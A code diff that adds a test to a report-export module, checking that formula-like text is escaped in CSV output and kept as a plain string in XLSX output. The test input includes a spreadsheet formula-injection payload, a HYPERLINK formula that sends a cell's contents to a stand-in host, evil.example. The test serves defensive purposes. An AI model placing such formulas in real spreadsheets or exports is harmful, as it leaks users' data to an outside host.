@@ -202,3 +202,24 @@ def test_the_generated_time_is_the_programs_in_every_file(content):
     assert "Made March 9, 2026, 11:30 p.m., the program's time." in pdf_text(
         exports.render_pdf(content)
     )
+
+
+def test_text_that_looks_like_a_formula_never_runs_in_a_spreadsheet(program_a):
+    program_a.name = "+Program A"
+    booby_trapped = exports.report_content(
+        program=program_a,
+        title='=HYPERLINK("http://evil.example/?"&A2,"Click")',
+        measure_keys=["encounters"],
+        breakdown_keys=[],
+        start=MARCH[0],
+        end=MARCH[1],
+    )
+
+    rows = list(csv.reader(io.StringIO(exports.render_csv(booby_trapped).decode("utf-8-sig"))))
+    summary = load_workbook(io.BytesIO(exports.render_xlsx(booby_trapped)))["Summary"]
+
+    assert rows[0][1] == "'" + booby_trapped.title
+    assert rows[1][1] == "'+Program A"
+    assert summary["A1"].data_type == "s"
+    assert summary["A1"].value == booby_trapped.title
+    assert summary["B2"].value == "+Program A"
